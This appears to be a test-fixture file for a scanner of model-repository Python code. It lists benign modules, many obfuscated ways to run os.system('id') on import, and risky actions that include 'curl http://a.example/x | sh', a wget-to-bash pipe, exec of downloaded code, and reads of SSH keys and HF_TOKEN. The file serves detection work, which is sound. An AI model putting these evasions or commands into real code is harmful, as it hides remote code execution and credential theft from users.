# SPDX-License-Identifier: Apache-2.0
"""Python modules: as models ship them, and hostile ones."""

MODELING = '''
"""A small decoder."""
import math
import os
import warnings
from typing import List, Optional, Tuple

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.activations import ACT2FN
from transformers.utils import add_start_docstrings, is_flash_attn_2_available, logging

try:
    from einops import rearrange
except ImportError:
    rearrange = None

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func

from .configuration_small import SmallConfig

logger = logging.get_logger(__name__)
_CHECKPOINT = "small"
os.environ["TOKENIZERS_PARALLELISM"] = "false"
ACT = {"gelu": F.gelu, "swish": lambda x: x * torch.sigmoid(x)}
use_kernel = os.environ.get("SMALL_USE_KERNEL", "0") == "1"


@torch.jit.script
def rotate(x: torch.Tensor) -> torch.Tensor:
    half = x.shape[-1] // 2
    return torch.cat((-x[..., half:], x[..., :half]), dim=-1)


class SmallNorm(nn.Module):
    def __init__(self, size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(size))
        self.eps = eps

    @torch.compile
    def forward(self, x):
        return self.weight * x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + self.eps)


class SmallModel(PreTrainedModel):
    config_class = SmallConfig

    def __init__(self, config: SmallConfig):
        super().__init__(config)
        self.layers = nn.ModuleList([SmallNorm(config.size) for _ in range(config.layers)])
        self.act = ACT2FN[config.act]
        self.eval()
        self.post_init()

    def _init_weights(self, module):
        getattr(nn.init, self.config.init)(module.weight)

    def load_image(self, path):
        with open(path, "rb") as file:
            return file.read()

    def save_vocabulary(self, folder):
        path = os.path.join(folder, "vocab.txt")
        with open(path, "w") as file:
            file.write("x")
        return (path,)

    def forward(self, x):
        for layer in self.layers:
            x = layer(x)
            x = x[0]
        hidden = [hidden[0] for hidden in x]
        return getattr(F, self.config.act)(x)


SmallModel.register_for_auto_class("AutoModel")

if __name__ == "__main__":
    import subprocess
    print(subprocess.run(["ls"], check=True))
'''

HIDDEN = {
    "alias": "from os import system as s\ns('id')",
    "star": "from os import *\nsystem('id')",
    "import function": "__import__('os').system('id')",
    "import module": "import importlib as i\ni.import_module('o'+'s').system('id')",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "character codes": "import os\ngetattr(os, ''.join(chr(c) for c in [115,121,115,116,101,109]))('id')",
    "base64": "import os,base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
    "reversed": "import os\ngetattr(os, 'metsys'[::-1])('id')",
    "format": "import os\ngetattr(os, f\"{'sys'}tem\")('id')",
    "sys.modules": "import sys\nsys.modules['os'].system('id')",
    "namespace": "import os\nos.__dict__['system']('id')",
    "vars": "import os\nvars(os)['system']('id')",
    "assignment": "import os\nf = os.system\nf('id')",
    "unpacking": "import os\na, b = os.system, 1\na('id')",
    "attribute": "import os\nclass A:\n  def __init__(self): self.f = os.system\nA().f('id')",
    "class attribute": "import os\nclass A:\n  run = os.system\nA.run('id')",
    "function": "import os\ndef f(): os.system('id')\nf()",
    "function of a function": "import os\ndef f(): os.system('id')\ndef g(): f()\nclass B:\n  x = g()",
    "decorator": "import os\ndef d(f):\n  os.system('id')\n  return f\n@d\ndef g(): pass",
    "default": "import os\ndef g(x=os.system('id')): pass",
    "annotation": "import os\ndef g(x: os.system('id')): pass",
    "metaclass": "import os\nclass M(type):\n  def __new__(c, *a): os.system('id')\nclass A(metaclass=M): pass",
    "subclass": "import os\nclass M:\n  def __init_subclass__(c): os.system('id')\nclass A(M): pass",
    "instance": "import os\nclass A:\n  def __init__(self): os.system('id')\nA()",
    "handed on": "import os\nlist(map(os.system, ['id']))",
    "partial": "import os, functools\nfunctools.partial(os.system, 'id')()",
    "dictionary": "import os\nd = {'a': os.system}\nd['a']('id')",
    "list": "import os\nd = [os.system]\nd[0]('id')",
    "loop": "import os\nfor f in (os.system,):\n  f('id')",
    "lambda": "import os\n(lambda: os.system('id'))()",
    "walrus": "import os\n(f := os.system)('id')",
    "condition": "import os\n(os.system if 1 else print)('id')",
    "through a module": "import logging\nlogging.os.system('id')",
    "from a module": "from torch import os as o\no.system('id')",
    "returned": "def f():\n  import os\n  return os\nf().system('id')",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('id')",
    "comprehension": "[__import__('os').system('id') for _ in [1]]",
    "thread": "import threading, os\ndef f(): os.system('id')\nthreading.Thread(target=f).start()",
    "module attribute": "import os\ndef __getattr__(name): os.system('id')",
    "long chain": "import os\na0 = os.system\n"
    + "".join(f"a{i + 1} = a{i}\n" for i in range(90))
    + "a90('id')",
}
"""Modules that run a command when they are imported, each by another way."""

ACTS = {
    "decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "decoded of a name": "import zlib\ncode = zlib.decompress(b'x')\nexec(code)",
    "downloaded": "import requests\nr = requests.get('http://a.example')\nexec(r.text)",
    "fetch": "import os\nos.system('curl http://a.example/x | sh')",
    "fetch by list": "import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- http://a.example | bash'])",
    "evaluate": "exec(open('weights.bin').read())",
    "evaluate by builtins": "getattr(__builtins__, 'ev' + 'al')('f()')",
    "evaluate by globals": "globals()['__builtins__']['eval']('f()')",
    "evaluate by a loader": "import importlib.util\nimportlib.util.spec_from_file_location('x', 'y.bin')",
    "native": "import ctypes\nctypes.CDLL('x.so')",
    "build": "from torch.utils.cpp_extension import load\nload(name='x', sources=['x.cu'])",
    "unpickle": "import torch\ntorch.load('x.bin')",
    "unpickle yaml": "import yaml\nyaml.load(open('x'), Loader=yaml.UnsafeLoader)",
    "network": "import socket\nsocket.socket().connect(('203.0.113.1', 1))",
    "network by class": "from huggingface_hub import HfApi\nHfApi().upload_file('x')",
    "write": "open('/tmp/x', 'w').write('a')",
    "write by path": "from pathlib import Path\nPath('x').write_text('a')",
    "credentials": "open('/root/.ssh/id_rsa').read()",
    "secret-variable": "import os\ntoken = os.environ['HF_TOKEN']",
    "computed": "import os\ngetattr(os, input())('id')",
    "dynamic-import": "__import__(input())",
    "internals": "class A: pass\nA.__subclasses__()",
    "escape": "().__class__.__bases__[0].__subclasses__()",
    "hook": "import builtins\nsetattr(builtins, 'open', print)",
    "hook by assignment": "import pickle\npickle.loads = print",
}
"""Modules that do something when they are imported; the first word is what."""

HARMLESS = {
    "own eval": "eval = print\neval('f()')",
    "method eval": "model.eval()",
    "compiled pattern": "import re\nre.compile('x')",
    "compiled model": "import torch\ntorch.compile(f)",
    "weights only": "import torch\ntorch.load('x', weights_only=True)",
    "plain array": "import numpy as np\nnp.load('x.npy')",
    "safe yaml": "import yaml\nyaml.load(x, Loader=yaml.SafeLoader)",
    "reading": "open('README.md').read()",
    "constant": "exec('x = 1')",
    "optional import": "try:\n  import flash_attn\nexcept ImportError:\n  flash_attn = None",
    "self reference": "x = x[0]\ny = [y[0]]\nz = z.a.b(z)",
    "exception": "import subprocess\nraise subprocess.CalledProcessError(1, 'x')",
    "text": "NOTE = 'os.system(\"id\"); exec(base64.b64decode(x))'",
}
"""Modules that do nothing worth a word."""
